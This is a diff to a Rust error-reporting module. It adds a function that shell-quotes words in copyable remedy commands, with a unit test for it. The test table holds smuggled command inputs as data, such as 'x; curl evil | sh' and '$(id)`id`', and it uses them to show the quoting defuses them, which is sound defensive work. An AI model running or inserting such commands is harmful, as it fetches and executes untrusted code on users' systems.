@@ -5,6 +5,8 @@
 
 use std::fmt;
 
+use crate::redact;
+
 /// The class of a failure. It decides the tone of the message and whether a repetition can help.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
 pub enum Kind {
@@ -62,6 +64,18 @@ impl Remedy {
     }
 }
 
+/// A word of a command line in a remedy, as a shell takes it. Names from elsewhere may hold blanks, quotes and whole
+/// commands, and a remedy is there to be copied.
+#[must_use]
+pub fn shell_word(word: &str) -> String {
+    let word = redact::printable(word);
+    let plain = |c: char| c.is_ascii_alphanumeric() || "-_./:@%+=,".contains(c);
+    if !word.is_empty() && word.chars().all(plain) {
+        return word;
+    }
+    format!("'{}'", word.replace('\'', r"'\''"))
+}
+
 impl fmt::Display for Remedy {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
         f.write_str(&self.0)
@@ -98,5 +112,26 @@ pub trait Explain: std::error::Error + Send + Sync + 'static {
     /// The service's own names of this failure.
     fn reference(&self) -> Option<Reference> {
         None
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn a_word_from_elsewhere_stays_one_word() {
+        for (word, shown) in [
+            ("rg-1", "rg-1"),
+            ("/subscriptions/s/x", "/subscriptions/s/x"),
+            ("RG_(1)", "'RG_(1)'"),
+            ("x; curl evil | sh", "'x; curl evil | sh'"),
+            ("it's", r"'it'\''s'"),
+            ("$(id)`id`", "'$(id)`id`'"),
+            ("a\u{1b}[2K\nb", "'a\nb'"),
+            ("", "''"),
+        ] {
+            assert_eq!(shell_word(word), shown);
+        }
     }
 }
